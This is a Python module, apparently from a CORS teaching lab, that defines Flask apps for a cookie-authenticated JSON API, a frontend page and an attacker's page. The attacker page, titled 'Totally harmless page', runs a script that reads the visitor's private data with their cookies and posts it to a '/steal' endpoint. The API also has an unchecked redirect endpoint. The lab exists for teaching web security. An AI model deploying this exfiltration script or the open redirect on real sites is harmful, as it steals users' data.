@@ -1,0 +1,153 @@
+"""Ready-made Flask apps for the lessons: a JSON API, a frontend page, and an attacker's page.
+
+Each returns a fresh Flask app; pass it to `serve`:
+
+    api = serve(api_app(), port=8002, name="api", policy=CorsPolicy(allow_origins=["http://localhost:8001"]))
+"""
+from __future__ import annotations
+
+import secrets
+from html import escape
+
+from flask import Flask, jsonify, redirect, request
+
+from cors_lab.flask_policy import install
+from cors_lab.policy import CorsPolicy
+
+USERS = {"alice": {"user": "alice", "email": "alice@example.com", "balance": 1250}}
+
+
+def api_app(policy: CorsPolicy | None = None) -> Flask:
+    """A small JSON API. Without a policy it sends no CORS headers at all (where every lesson starts).
+
+    ===============================  ===========================================================
+    ``GET /api/public``              public data
+    ``GET|POST /login?user=alice``   logs in: sets the ``sid`` session cookie (SameSite=Lax)
+    ``GET /api/private``             the logged-in user's data; 401 without the cookie
+    ``GET /api/items``               the items; ``PUT`` / ``DELETE /api/items/<id>`` change them
+    ``POST /api/echo``               echoes the JSON body and its Content-Type
+    ``GET /api/custom-headers``      sends X-Request-Id and X-RateLimit-Remaining
+    ``GET /api/redirect?to=URL``     302 to URL (for example another origin)
+    ``GET /api/status/<code>``       answers with that status (404, 500, ...)
+    ===============================  ===========================================================
+    """
+    app = Flask("api")
+    sessions: dict[str, str] = {}
+    items: dict[str, dict] = {"1": {"id": "1", "name": "apple"}, "2": {"id": "2", "name": "pear"}}
+
+    @app.get("/api/public")
+    def public():
+        return jsonify(message="Hello from the API", public=True)
+
+    @app.route("/login", methods=["GET", "POST"])
+    def login():
+        body = request.get_json(silent=True) or {}
+        user = request.args.get("user") or body.get("user") or "alice"
+        if user not in USERS:
+            return jsonify(error=f"unknown user {user!r}"), 403
+        sid = secrets.token_hex(8)
+        sessions[sid] = user
+        response = jsonify(logged_in=user)
+        response.set_cookie("sid", sid, samesite="Lax", httponly=True)
+        return response
+
+    @app.get("/api/private")
+    def private():
+        user = sessions.get(request.cookies.get("sid", ""))
+        if user is None:
+            return jsonify(error="not logged in"), 401
+        return jsonify(USERS[user])
+
+    @app.get("/api/items")
+    def list_items():
+        return jsonify(list(items.values()))
+
+    @app.route("/api/items/<item_id>", methods=["PUT", "DELETE"])
+    def change_item(item_id: str):
+        if request.method == "DELETE":
+            items.pop(item_id, None)
+            return jsonify(deleted=item_id)
+        items[item_id] = {"id": item_id, **(request.get_json(silent=True) or {})}
+        return jsonify(items[item_id])
+
+    @app.post("/api/echo")
+    def echo():
+        return jsonify(content_type=request.content_type, body=request.get_json(silent=True))
+
+    @app.get("/api/custom-headers")
+    def custom_headers():
+        response = jsonify(message="look at my headers")
+        response.headers["X-Request-Id"] = "req-42"
+        response.headers["X-RateLimit-Remaining"] = "99"
+        return response
+
+    @app.get("/api/redirect")
+    def redirect_elsewhere():
+        return redirect(request.args.get("to", "/api/public"), code=302)
+
+    @app.get("/api/status/<int:code>")
+    def status(code: int):
+        return jsonify(status=code), code
+
+    return install(app, policy)
+
+
+def page_app(title: str = "Frontend", api_url: str = "http://localhost:8002") -> Flask:
+    """The frontend: a static page at the "page origin" whose script calls the API."""
+    app = Flask("page")
+
+    @app.get("/")
+    def index():
+        return _page(
+            title,
+            f"""<p>This page lives at <code id="origin"></code> and calls <code>{escape(api_url)}</code>.</p>
+<button onclick="go()">fetch /api/public</button><pre id="out"></pre>
+<script>
+document.getElementById('origin').textContent = location.origin;
+async function go() {{
+  const out = document.getElementById('out');
+  try {{ const r = await fetch({api_url!r} + '/api/public'); out.textContent = await r.text(); }}
+  catch (e) {{ out.textContent = String(e) + ' (see the DevTools console)'; }}
+}}
+</script>""",
+        )
+
+    return app
+
+
+def attacker_app(target_url: str = "http://localhost:8002/api/private") -> Flask:
+    """An attacker's page: its script tries to read ``target_url`` with the visitor's cookies.
+
+    What it manages to read is sent to ``POST /steal`` on the attacker's own server, so the attacker
+    server's log (and ``app.config["STOLEN"]``) shows what leaked.
+    """
+    app = Flask("attacker")
+    app.config["STOLEN"] = []
+
+    @app.get("/")
+    def index():
+        return _page(
+            "Totally harmless page",
+            f"""<p>Nothing to see here.</p><pre id="out"></pre>
+<script>
+fetch({target_url!r}, {{credentials: 'include'}})
+  .then(r => r.text())
+  .then(t => {{ document.getElementById('out').textContent = t;
+               return fetch('/steal', {{method: 'POST', body: t}}); }})
+  .catch(e => {{ document.getElementById('out').textContent = 'blocked: ' + e; }});
+</script>""",
+        )
+
+    @app.post("/steal")
+    def steal():
+        app.config["STOLEN"].append(request.get_data(as_text=True))
+        return "", 204
+
+    return app
+
+
+def _page(title: str, body: str) -> str:
+    return (
+        f"<!doctype html><html><head><meta charset='utf-8'><title>{escape(title)}</title></head>"
+        f"<body><h1>{escape(title)}</h1>{body}</body></html>"
+    )
